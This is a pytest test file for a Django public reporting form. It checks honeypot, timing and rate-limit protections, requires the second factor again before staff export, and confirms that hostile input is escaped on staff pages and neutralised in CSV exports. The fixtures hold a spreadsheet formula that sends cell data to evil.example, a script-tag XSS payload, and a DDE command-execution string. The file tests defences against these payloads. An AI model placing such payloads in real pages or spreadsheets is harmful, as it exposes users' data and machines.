"""Abuse resistance on the public pages: honeypot, timing, rate limits with
kind pages, and hostile text kept inert on staff pages and in exports."""

from __future__ import annotations

import csv
import io
import time
from typing import Any

import pytest
from django.test import Client

from audit.models import AccessLogEntry
from audit.receivers import OTP_VERIFIED_AT
from audit.roles import Role
from reports.models import Report
from tests.helpers import submit
from tests.staff import make_staff, signed_in
from tests.test_journey_views import answer_all

pytestmark = pytest.mark.usefixtures("reference_data")


def test_a_filled_honeypot_stores_nothing(client: Client) -> None:
    answer_all(client)
    response = client.post("/report/check-your-answers/", {"website": "http://spam.example"})
    assert response.status_code == 400
    assert b"could not send this" in response.content
    assert Report.objects.count() == 0


def test_the_honeypot_is_hidden_from_people(client: Client) -> None:
    answer_all(client)
    html = client.get("/report/check-your-answers/").content.decode()
    assert 'class="honeypot" aria-hidden="true"' in html
    assert 'tabindex="-1" autocomplete="off"' in html


def test_a_report_sent_too_fast_is_shown_again_not_lost(client: Client, settings: Any) -> None:
    settings.REPORT_MIN_SECONDS = 60
    settings.REPORT_RESEND_MIN_SECONDS = 0
    answer_all(client)
    first = client.post("/report/check-your-answers/")
    assert first.status_code == 200
    assert "press “Send report” again".encode() in first.content
    assert Report.objects.count() == 0
    second = client.post("/report/check-your-answers/")
    assert second.status_code == 302
    assert Report.objects.count() == 1


def test_an_immediate_resend_after_the_challenge_is_still_held(
    client: Client, settings: Any
) -> None:
    settings.REPORT_MIN_SECONDS = 60
    settings.REPORT_RESEND_MIN_SECONDS = 30
    answer_all(client)
    client.post("/report/check-your-answers/")
    assert client.post("/report/check-your-answers/").status_code == 200
    assert Report.objects.count() == 0


def test_a_person_at_a_normal_pace_is_not_challenged(client: Client, settings: Any) -> None:
    settings.REPORT_MIN_SECONDS = 5
    answer_all(client)
    session = client.session
    session["report_started_at"] = time.time() - 120
    session.save()
    assert client.post("/report/check-your-answers/").status_code == 302


def test_sending_reports_is_rate_limited_per_client_with_a_kind_page(
    client: Client, settings: Any
) -> None:
    settings.RATELIMIT_REPORT_PER_CLIENT = "2/h"
    for _ in range(2):
        other_session = Client()
        answer_all(other_session)
        assert other_session.post("/report/check-your-answers/").status_code == 302
    answer_all(client)
    limited = client.post("/report/check-your-answers/")
    assert limited.status_code == 429
    assert b"Please wait a little before trying again" in limited.content
    assert b"999" in limited.content
    assert Report.objects.count() == 2
    # The answers are still there for when the limit passes.
    assert client.get("/report/check-your-answers/").status_code == 200


def test_follow_up_lookups_are_rate_limited_per_client(client: Client, settings: Any) -> None:
    settings.RATELIMIT_FOLLOW_UP_PER_CLIENT = "3/h"
    for _ in range(3):
        client.post("/follow-up/", {"reference": "HC-AAAA-AAAA", "secret": "x"})
    limited = client.post("/follow-up/", {"reference": "HC-AAAA-AAAA", "secret": "x"})
    assert limited.status_code == 429
    assert b"Please wait" in limited.content


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script>'


def test_hostile_text_is_escaped_on_the_staff_site(valid_report: dict[str, Any]) -> None:
    valid_report["what"]["account"] = HOSTILE
    report = submit(valid_report).report
    client = signed_in(make_staff("tara", Role.TRIAGE_OFFICER))
    html = client.get(f"/staff/reports/report/{report.pk}/change/").content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_csv_export_of_a_malicious_account_is_inert_and_logged(
    valid_report: dict[str, Any],
) -> None:
    valid_report["what"]["account"] = HOSTILE
    valid_report["support"]["contact_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    report = submit(valid_report).report
    client = signed_in(make_staff("tara", Role.TRIAGE_OFFICER))
    response = client.post(
        "/staff/reports/report/", {"action": "export_csv", "_selected_action": [report.pk]}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="reports.csv"'
    # Streamed: getvalue() reads the whole download.
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    assert rows[0]["account"] == "'" + HOSTILE
    assert rows[0]["contact_name"].startswith("'@")
    entry = AccessLogEntry.objects.get(action="export")
    assert entry.detail == {"count": 1, "references": [report.reference]}


def test_exporting_asks_for_the_second_factor_again_when_it_is_old(
    valid_report: dict[str, Any],
) -> None:
    report = submit(valid_report).report
    client = signed_in(make_staff("tara", Role.TRIAGE_OFFICER))
    session = client.session
    session[OTP_VERIFIED_AT] = time.time() - 16 * 60
    session.save()
    response = client.post(
        "/staff/reports/report/", {"action": "export_csv", "_selected_action": [report.pk]}
    )
    assert response.status_code == 302
    assert response["Location"].startswith("/staff/reverify/")
    assert not AccessLogEntry.objects.filter(action="export").exists()
